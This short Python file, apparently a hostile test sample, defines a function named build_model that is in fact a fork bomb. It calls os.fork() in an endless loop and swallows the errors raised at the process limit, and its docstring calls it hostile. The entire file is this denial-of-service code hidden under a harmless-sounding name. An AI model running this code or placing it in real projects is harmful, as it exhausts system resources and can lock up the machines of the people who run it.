"""Hostile: forks without end and swallows every error, so nothing ever raises."""

import os


def build_model():
    while True:
        try:
            os.fork()
        except OSError:  # BlockingIOError at the pids limit: ignore it and try again
            pass
